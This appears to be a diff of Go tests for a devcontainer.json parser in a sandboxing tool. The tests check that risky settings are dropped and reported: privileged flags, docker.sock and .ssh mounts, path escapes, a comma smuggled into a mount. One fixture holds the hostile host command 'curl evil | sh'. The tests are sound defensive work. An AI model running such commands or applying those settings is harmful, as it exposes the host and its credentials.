@@ -75,22 +75,23 @@ func TestRealWorld(t *testing.T) {
 	}{
 		{"go", nil, func(t *testing.T, root string, c *Config, l diag.List) {
 			want := Config{Path: filepath.Join(root, ".devcontainer/devcontainer.json"), Image: "mcr.microsoft.com/devcontainers/go:1-1.22-bookworm",
-				Env: map[string]string{"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}, User: "vscode", PostCreate: "go version && go mod download"}
+				Env: map[string]string{"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}, PostCreate: "go version && go mod download",
+				ContainerEnv: map[string]string{"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}, RemoteUser: "vscode", ForwardPorts: []string{"8080"}}
 			got := *c
 			got.pos = nil // positions are TestConfigPos's
 			if fmt.Sprint(got) != fmt.Sprint(want) {
 				t.Errorf("config = %+v\nwant     %+v", got, want)
 			}
 		}},
-		{"node-typescript", []string{"SK208", "SK208", "SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
-			if c.PostCreate != "npm ci --no-audit" || c.User != "node" || len(c.Mounts) != 0 {
+		{"node-typescript", []string{"SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
+			if c.PostCreate != "npm ci --no-audit" || c.RemoteUser != "node" || c.User != "" || len(c.Mounts) != 0 || len(c.Volumes) != 1 {
 				t.Errorf("config = %+v", *c)
 			}
 			if v, ok := c.Env["NPM_TOKEN"]; !ok || v != "" {
 				t.Errorf("NPM_TOKEN = %q, %v; want the empty expansion (Fuse strips the key)", v, ok)
 			}
-			if !strings.Contains(l[1].Message, "volume mount") || l[1].Line != 15 {
-				t.Errorf("volume warning = %s", l[1])
+			if len(c.Features) == 0 {
+				t.Errorf("features not recorded for the features support")
 			}
 		}},
 		{"python", []string{"SK204"}, func(t *testing.T, root string, c *Config, l diag.List) {
@@ -98,20 +99,23 @@ func TestRealWorld(t *testing.T) {
 			if fmt.Sprint(c.Env) != fmt.Sprint(want) {
 				t.Errorf("env = %v, want %v (containerEnv wins, PATH left unset)", c.Env, want)
 			}
-			if c.User != "vscode" || c.WorkspaceFolder != "/workspace/python" {
+			if c.ContainerUser != "vscode" || c.User != "" || c.WorkspaceFolder != "/workspace/python" {
 				t.Errorf("config = %+v", *c)
 			}
 			if l[0].Line != 16 || l[0].Column != 11 {
 				t.Errorf("position = %d:%d, want 16:11", l[0].Line, l[0].Column)
 			}
 		}},
-		{"rust", []string{"SK208", "SK204", "SK208", "SK208"}, func(t *testing.T, root string, c *Config, l diag.List) {
+		{"rust", nil, func(t *testing.T, root string, c *Config, l diag.List) {
 			want := []string{"type=bind,source=" + root + "/.devcontainer,target=/opt/fixtures,readonly"}
 			if !slices.Equal(c.Mounts, want) {
-				t.Errorf("mounts = %q, want %q (consistency dropped, volume ignored)", c.Mounts, want)
+				t.Errorf("mounts = %q, want %q (consistency dropped, the volume apart)", c.Mounts, want)
+			}
+			if len(c.Volumes) != 1 || !strings.HasPrefix(c.Volumes[0].Name, "devcontainer-cargo-cache-") || c.Volumes[0].Target != "/usr/local/cargo" {
+				t.Errorf("volumes = %+v, want the cargo cache with ${devcontainerId} expanded", c.Volumes)
 			}
 		}},
-		{"dockerfile-args", []string{"SK203", "SK213", "SK213", "SK208"}, func(t *testing.T, root string, c *Config, l diag.List) {
+		{"dockerfile-args", []string{"SK203", "SK213", "SK213"}, func(t *testing.T, root string, c *Config, l diag.List) {
 			if c.Image != "" || c.Build == nil || c.Build.Dockerfile != ".devcontainer/Dockerfile" || c.Build.Context != "." {
 				t.Fatalf("build = %+v", c.Build)
 			}
@@ -122,16 +126,16 @@ func TestRealWorld(t *testing.T) {
 			if c.Env["REPO"] != root || c.Env["GITHUB_TOKEN"] != "" || c.Env["HTTP_PROXY"] != "" {
 				t.Errorf("env = %v", c.Env)
 			}
-			if c.PostCreate != `bash -c 'pip install -e '\''.[dev]'\'' && npm ci'` {
+			if c.PostCreate != `bash -c 'pip install -e '\''.[dev]'\'' && npm ci'` || c.UpdateContent != "make deps" {
 				t.Errorf("postCreate = %s", c.PostCreate)
 			}
 			if !strings.Contains(l[0].Message, `"--env-file .devcontainer/devcontainer.env"`) {
 				t.Errorf("runArgs warning does not list --env-file: %s", l[0])
 			}
 		}},
-		{"compose", []string{"SK206"}, func(t *testing.T, root string, c *Config, l diag.List) {
-			if l[0].Line != 5 || l[0].Hint == "" {
-				t.Errorf("compose diagnostic = %s", l[0])
+		{"compose", nil, func(t *testing.T, root string, c *Config, l diag.List) {
+			if c.Compose == nil || len(c.Compose.Files) == 0 || c.Compose.Service == "" {
+				t.Errorf("compose = %+v, want the raw fields recorded for the compose support", c.Compose)
 			}
 		}},
 		{"legacy-dockerfile", []string{"SK203"}, func(t *testing.T, root string, c *Config, l diag.List) {
@@ -139,11 +143,20 @@ func TestRealWorld(t *testing.T) {
 				t.Errorf("config = %+v build %+v", *c, c.Build)
 			}
 		}},
-		{"docker-in-docker", []string{"SK203", "SK202", "SK202", "SK202", "SK202", "SK205", "SK205", "SK208"}, func(t *testing.T, root string, c *Config, l diag.List) {
-			for i, want := range []string{"--cap-add=SYS_PTRACE", "--security-opt seccomp=unconfined", "--privileged", "--network=host",
-				"/var/run/docker.sock", "/home/alice/.ssh"} {
-				if !strings.Contains(l[i+1].Message, want) {
-					t.Errorf("diagnostic %d = %s, want it to name %s", i+1, l[i+1], want)
+		{"docker-in-docker", []string{"SK203", "SK202", "SK202", "SK202", "SK202", "SK202", "SK202", "SK202"}, func(t *testing.T, root string, c *Config, l diag.List) {
+			wants := []string{"--cap-add=SYS_PTRACE", "--security-opt seccomp=unconfined", "--privileged", "--network=host",
+				"/var/run/docker.sock", "/home/alice/.ssh", "initializeCommand"}
+			for i, want := range wants {
+				if !strings.Contains(l[i+1].Message, want) || l[i+1].Severity != diag.Warning {
+					t.Errorf("diagnostic %d = %s, want a warning naming %s", i+1, l[i+1], want)
+				}
+			}
+			if len(c.Dropped) != len(wants) {
+				t.Fatalf("dropped = %+v, want %d items", c.Dropped, len(wants))
+			}
+			for i, d := range c.Dropped {
+				if !strings.Contains(d.String(), wants[i]) || d.Why == "" || d.Line == 0 {
+					t.Errorf("dropped[%d] = %+v, want it to name %s with why and line", i, d, wants[i])
 				}
 			}
 		}},
@@ -189,7 +202,7 @@ func TestUnknownFieldsIgnored(t *testing.T) {
 		"workspaceMount": "source=${localWorkspaceFolder},target=/src,type=bind", "otherField": {"image": 3},
 		"name": "twice is fine for a field sandkeep does not read",
 	}`)
-	only(t, list)
+	only(t, list, "SK208") // otherField, and only it
 }
 
 // TestWrongType checks every field sandkeep reads for a wrong JSON type, with its line and column.
@@ -273,9 +286,9 @@ func TestImageXorBuild(t *testing.T) {
 		{name: "dockerfile escapes", src: `{"build": {"dockerfile": "../../../etc/passwd"}}`, codes: []string{"SK210"}},
 		{name: "absolute outside", src: `{"build": {"dockerfile": "/etc/Dockerfile"}}`, codes: []string{"SK210"}},
 		{name: "file outside workspace", file: "/elsewhere/devcontainer.json", src: `{"build": {"dockerfile": "Dockerfile"}}`, codes: []string{"SK210", "SK210"}},
-		{name: "build target", src: `{"build": {"dockerfile": "Dockerfile", "target": "dev"}}`, codes: []string{"SK208"}, dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer"},
+		{name: "build target", src: `{"build": {"dockerfile": "Dockerfile", "target": "dev"}}`, dockerfile: ".devcontainer/Dockerfile", context: ".devcontainer"},
 		{name: "build twice key", src: `{"build": {"dockerfile": "A", "dockerfile": "B"}}`, codes: []string{"SK209"}},
-		{name: "compose", src: `{"dockerComposeFile": "docker-compose.yml", "service": "app"}`, codes: []string{"SK206"}},
+		{name: "compose", src: `{"dockerComposeFile": "docker-compose.yml", "service": "app"}`},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -351,14 +364,14 @@ func TestRunArgsRefused(t *testing.T) {
 			_, list := parse(t, `{"image": "debian:12", "runArgs": [`+strings.Join(q, ", ")+`]}`)
 			var refused []diag.Diagnostic
 			for _, d := range list {
-				if d.Code == diag.DevcontainerRunArgRefused {
+				if d.Code == diag.DevcontainerDropped {
 					refused = append(refused, d)
 				}
 			}
 			if len(refused) != 1 {
 				t.Fatalf("got %v, want one SK202", list)
 			}
-			if !strings.Contains(refused[0].Message, tt.name) || refused[0].Hint == "" || refused[0].Severity != diag.Error {
+			if !strings.Contains(refused[0].Message, tt.name) || refused[0].Hint == "" || refused[0].Severity != diag.Warning {
 				t.Errorf("got %s, want it to name %s", refused[0], tt.name)
 			}
 		})
@@ -405,7 +418,7 @@ func TestExpand(t *testing.T) {
 		{name: "container workspace default", in: "${containerWorkspaceFolder}/bin", want: "/workspace/bin"},
 		{name: "container workspace set", in: "${containerWorkspaceFolder}/bin", ws: "/src/${localWorkspaceFolderBasename}", want: "/src/repo/bin"},
 		{name: "container basename", in: "${containerWorkspaceFolderBasename}", ws: "/src/app", want: "app"},
-		{name: "unknown", in: "id-${devcontainerId}", want: "id-${devcontainerId}", codes: []string{"SK204"}},
+		{name: "unknown", in: "id-${localWorkspaceFolderId}", want: "id-${localWorkspaceFolderId}", codes: []string{"SK204"}},
 		{name: "unknown kind", in: "${remoteEnv:X}", want: "${remoteEnv:X}", codes: []string{"SK204"}},
 		{name: "unterminated", in: "a${localEnv:A", want: "a${localEnv:A", codes: []string{"SK204"}},
 		{name: "lone dollar", in: "$A ${", want: "$A ${", codes: []string{"SK204"}},
@@ -459,9 +472,10 @@ func TestEnvAndUser(t *testing.T) {
 		{name: "null unsets", src: `"remoteEnv": {"A": null, "B": "r"}`, env: map[string]string{"B": "r"}},
 		{name: "null in containerEnv does not hide remoteEnv", src: `"containerEnv": {"A": null}, "remoteEnv": {"A": "r"}`, env: map[string]string{"A": "r"}},
 		{name: "containerEnv ref left unset", src: `"remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "B": "b"}`, env: map[string]string{"B": "b"}, codes: []string{"SK204"}},
-		{name: "remoteUser over containerUser", src: `"containerUser": "root", "remoteUser": "vscode"`, user: "vscode"},
-		{name: "containerUser alone", src: `"containerUser": "1000:1000"`, user: "1000:1000"},
-		{name: "remoteUser alone", src: `"remoteUser": "node"`, user: "node"},
+		{name: "root dropped, name mapped", src: `"containerUser": "root", "remoteUser": "vscode"`, codes: []string{"SK202"}},
+		{name: "numeric containerUser is the uid", src: `"containerUser": "1000:1000"`, user: "1000:1000"},
+		{name: "numeric remoteUser over containerUser", src: `"containerUser": "1001", "remoteUser": "0"`, user: "0"},
+		{name: "a name is mapped onto the sandbox uid", src: `"remoteUser": "node"`},
 		{name: "user with space", src: `"remoteUser": "a b"`, codes: []string{"SK214"}},
 		{name: "containerUser still checked", src: `"remoteUser": "a", "containerUser": "x\ny"`, codes: []string{"SK214"}},
 		{name: "env name with equals", src: `"containerEnv": {"A=B": "x"}`, codes: []string{"SK212"}},
@@ -506,7 +520,8 @@ func TestPostCreate(t *testing.T) {
 		{name: "argv", src: `["npm", "ci"]`, want: "npm ci"},
 		{name: "argv quoted", src: `["echo", "a b", "it's", "", "$HOME", "*"]`, want: `echo 'a b' 'it'\''s' '' '$HOME' '*'`},
 		{name: "argv empty", src: `[]`, want: ""},
-		{name: "object", src: `{"server": "npm start", "db": ["pg_ctl", "start"]}`, codes: []string{"SK208"}},
+		{name: "object", src: `{"server": "npm start", "db": ["pg_ctl", "start"]}`,
+			want: "( npm start\n) & p0=$!\n( pg_ctl start\n) & p1=$!\ns=0\nwait $p0 || { r=$?; [ $s -eq 0 ] && s=$r; }\nwait $p1 || { r=$?; [ $s -eq 0 ] && s=$r; }\nexit $s"},
 		{name: "control character", src: `"make\u001b[31m"`, codes: []string{"SK214"}},
 	}
 	for _, tt := range tests {
@@ -567,23 +582,28 @@ func TestMounts(t *testing.T) {
 		{name: "object", mount: `{"source": "${localWorkspaceFolder}/data", "target": "/opt/d", "type": "bind"}`,
 			want: "type=bind,source=" + ws + "/data,target=/opt/d"},
 		{name: "docker socket", mount: `"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"`,
-			codes: []string{"SK205"}, msg: "docker.sock"},
+			codes: []string{"SK202"}, msg: "docker.sock"},
 		{name: "symlink to a denied directory", mount: `"source=${localWorkspaceFolder}/etc-link,target=/opt/s,type=bind"`,
-			codes: []string{"SK205"}, msg: "symlink"},
+			codes: []string{"SK202"}, msg: "symlink"},
 		{name: "ssh", mount: `"source=${localEnv:HOME}/.ssh,target=/home/vscode/.ssh,type=bind"`,
-			codes: []string{"SK205"}, msg: ".ssh"},
+			codes: []string{"SK202"}, msg: ".ssh"},
 		{name: "home directory", mount: `{"source": "${localWorkspaceFolder}", "target": "/opt/w", "type": "bind"}`,
-			codes: []string{"SK205"}, msg: "home directory"},
-		{name: "host root", mount: `{"source": "/", "target": "/host", "type": "bind"}`, codes: []string{"SK205"}, msg: "root directory"},
-		{name: "relative", mount: `"source=data,target=/opt/d"`, codes: []string{"SK205"}, msg: "not an absolute path"},
-		{name: "target etc", mount: `"source=${localWorkspaceFolder}/data,target=/etc,type=bind"`, codes: []string{"SK205"}, msg: "/etc"},
-		{name: "missing source", mount: `"source=${localWorkspaceFolder}/nope,target=/opt/d,type=bind"`, codes: []string{"SK205"}, msg: "does not exist"},
+			codes: []string{"SK202"}, msg: "home directory"},
+		{name: "host root", mount: `{"source": "/", "target": "/host", "type": "bind"}`, codes: []string{"SK202"}, msg: "root directory"},
+		{name: "no type and a name is a volume", mount: `"source=data,target=/opt/d"`},
+		{name: "relative bind", mount: `"source=./data,target=/opt/d,type=bind"`, codes: []string{"SK202"}, msg: "not an absolute path"},
+		{name: "target etc", mount: `"source=${localWorkspaceFolder}/data,target=/etc,type=bind"`, codes: []string{"SK202"}, msg: "/etc"},
+		{name: "missing source", mount: `"source=${localWorkspaceFolder}/nope,target=/opt/d,type=bind"`, codes: []string{"SK202"}, msg: "does not exist"},
 		{name: "unknown key", mount: `"source=${localWorkspaceFolder}/data,target=/opt/d,bind-propagation=shared"`, codes: []string{"SK205"}, msg: "unknown key"},
 		{name: "comma smuggled in object", mount: `{"source": "${localWorkspaceFolder}/data,target=/etc", "target": "/opt/d", "type": "bind"}`,
 			codes: []string{"SK205"}, msg: "comma"},
-		{name: "volume ignored", mount: `"source=cache,target=/c,type=volume"`, codes: []string{"SK208"}},
-		{name: "volume object ignored", mount: `{"source": "cache", "target": "/c", "type": "volume"}`, codes: []string{"SK208"}},
-		{name: "tmpfs ignored", mount: `"target=/t,type=tmpfs"`, codes: []string{"SK208"}},
+		{name: "volume", mount: `"source=cache,target=/c,type=volume"`},
+		{name: "volume object", mount: `{"source": "cache", "target": "/c", "type": "volume"}`},
+		{name: "volume over proc", mount: `"source=cache,target=/proc/x,type=volume"`, codes: []string{"SK205"}, msg: "sealed"},
+		{name: "volume bad name", mount: `"source=../x,target=/c,type=volume"`, codes: []string{"SK205"}, msg: "not a volume name"},
+		{name: "volume driver dropped", mount: `"source=c,target=/c,type=volume,volume-driver=nfs"`, codes: []string{"SK202"}, msg: "driver"},
+		{name: "tmpfs", mount: `"target=/t,type=tmpfs,tmpfs-size=64m"`},
+		{name: "tmpfs on the workspace", mount: `"target=/workspace,type=tmpfs"`, codes: []string{"SK205"}, msg: "workspace"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -635,14 +655,57 @@ func TestWorkspaceFolder(t *testing.T) {
 	}
 }
 
-func TestUnsupportedWarned(t *testing.T) {
-	_, list := parse(t, `{"image": "debian:12",
+// TestLifecycleCommands: every lifecycle command is read in each form; initializeCommand, which runs on the
+// host, is dropped and reported; features are recorded raw for the features support.
+func TestLifecycleCommands(t *testing.T) {
+	cfg, list := parse(t, `{"image": "debian:12",
 		"features": {"ghcr.io/devcontainers/features/node:1": {}},
-		"initializeCommand": "curl evil | sh", "onCreateCommand": "a", "updateContentCommand": "b",
-		"postStartCommand": "c", "postAttachCommand": "d"}`)
-	only(t, list, "SK208", "SK208", "SK208", "SK208", "SK208", "SK208")
-	if !strings.Contains(list[1].Hint, "never runs a repository's command on the host") {
-		t.Errorf("initializeCommand hint = %q", list[1].Hint)
+		"initializeCommand": "curl evil | sh", "onCreateCommand": "a", "updateContentCommand": ["b", "c d"],
+		"postStartCommand": "e", "postAttachCommand": {"x": "f"}}`)
+	only(t, list, "SK202")
+	if !strings.Contains(list[0].Message, "initializeCommand") || !strings.Contains(list[0].Message, "on the host") {
+		t.Errorf("initializeCommand drop = %s", list[0])
+	}
+	if cfg.OnCreate != "a" || cfg.UpdateContent != "b 'c d'" || cfg.PostStart != "e" || cfg.PostAttach != "f" {
+		t.Errorf("commands = %q %q %q %q", cfg.OnCreate, cfg.UpdateContent, cfg.PostStart, cfg.PostAttach)
+	}
+	if len(cfg.Dropped) != 1 || cfg.Dropped[0].Field != "initializeCommand" || cfg.Dropped[0].Line != 3 {
+		t.Errorf("dropped = %+v", cfg.Dropped)
+	}
+	if !strings.Contains(string(cfg.Features), "features/node:1") {
+		t.Errorf("features = %s", cfg.Features)
+	}
+}
+
+// TestSchemaFields: the rest of the schema is read and recorded; posture fields are dropped; an unknown field
+// is one warning.
+func TestSchemaFields(t *testing.T) {
+	cfg, list := parse(t, `{"image": "debian:12", "privileged": true, "capAdd": ["SYS_PTRACE"], "securityOpt": ["seccomp=unconfined"],
+		"init": true, "overrideCommand": false, "shutdownAction": "none", "updateRemoteUserUID": true,
+		"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": true}, "forwardPorts": [3000, "db:5432"],
+		"appPort": 8080, "customizations": {"vscode": {}}, "bogus": 1,
+		"build2": {}, "remoteEnv": {"A": "r"}, "containerEnv": {"B": "c"}}`)
+	only(t, list, "SK202", "SK202", "SK202", "SK202", "SK202", "SK208", "SK208")
+	var fields []string
+	for _, d := range cfg.Dropped {
+		fields = append(fields, d.Field+":"+d.Item)
+	}
+	want := []string{"privileged:true", "capAdd:SYS_PTRACE", "securityOpt:seccomp=unconfined", "hostRequirements:gpu", "appPort:"}
+	if !slices.Equal(fields, want) {
+		t.Errorf("dropped = %q, want %q", fields, want)
+	}
+	if cfg.Init == nil || !*cfg.Init || cfg.OverrideCommand == nil || *cfg.OverrideCommand || cfg.ShutdownAction != "none" ||
+		cfg.UpdateRemoteUserUID == nil || !*cfg.UpdateRemoteUserUID {
+		t.Errorf("init/overrideCommand/shutdownAction/updateRemoteUserUID = %v %v %q %v", cfg.Init, cfg.OverrideCommand, cfg.ShutdownAction, cfg.UpdateRemoteUserUID)
+	}
+	if hr := cfg.HostRequirements; hr == nil || hr.CPUs != 4 || hr.Memory != "8g" || hr.Storage != "32g" {
+		t.Errorf("hostRequirements = %+v", cfg.HostRequirements)
+	}
+	if !slices.Equal(cfg.ForwardPorts, []string{"3000", "db:5432"}) {
+		t.Errorf("forwardPorts = %q", cfg.ForwardPorts)
+	}
+	if cfg.RemoteEnv["A"] != "r" || cfg.ContainerEnv["B"] != "c" || cfg.Env["A"] != "r" || cfg.Env["B"] != "c" {
+		t.Errorf("env = %v %v %v", cfg.RemoteEnv, cfg.ContainerEnv, cfg.Env)
 	}
 }
 
@@ -660,9 +723,9 @@ func TestSyntax(t *testing.T) {
 		{"array at top", `["image"]`, "SK200", 1, 1, "top level is an array"},
 		{"string at top", `"image"`, "SK200", 1, 1, "top level is a string"},
 		{"too deep", "{\"x\": " + strings.Repeat("[", MaxDepth+1), "SK200", 1, 6 + MaxDepth, "nested more than"},
-		{"deep in string is fine", `{"image": "d", "x": "` + strings.Repeat("[", 1000) + `"}`, "", 0, 0, ""},
+		{"deep in string is fine", `{"image": "d", "name": "` + strings.Repeat("[", 1000) + `"}`, "", 0, 0, ""},
 		{"deep in comment is fine", "{\"image\": \"d\" /* " + strings.Repeat("{", 1000) + " */}", "", 0, 0, ""},
-		{"too large", `{"image": "d", "x": "` + strings.Repeat(" ", MaxSize) + `"}`, "SK215", 0, 0, "over the limit"},
+		{"too large", `{"image": "d", "name": "` + strings.Repeat(" ", MaxSize) + `"}`, "SK215", 0, 0, "over the limit"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -691,11 +754,11 @@ func TestColumnCountsCharacters(t *testing.T) {
 func TestTooManyDiagnostics(t *testing.T) {
 	args := strings.Repeat(`"--privileged", `, 500)
 	cfg, list := parse(t, `{"image": "debian:12", "runArgs": [`+args+`]}`)
-	if cfg != nil || len(list) != maxDiags+1 {
+	if cfg == nil || len(list) != maxDiags+1 || len(cfg.Dropped) != maxDiags {
 		t.Fatalf("got %d diagnostics", len(list))
 	}
 	last := list[len(list)-1]
-	if last.Code != diag.DevcontainerTooMany || last.Severity != diag.Error || !strings.Contains(last.Message, "400 more") {
+	if last.Code != diag.DevcontainerTooMany || last.Severity != diag.Warning || !strings.Contains(last.Message, "400 more") {
 		t.Errorf("last = %s", last)
 	}
 }
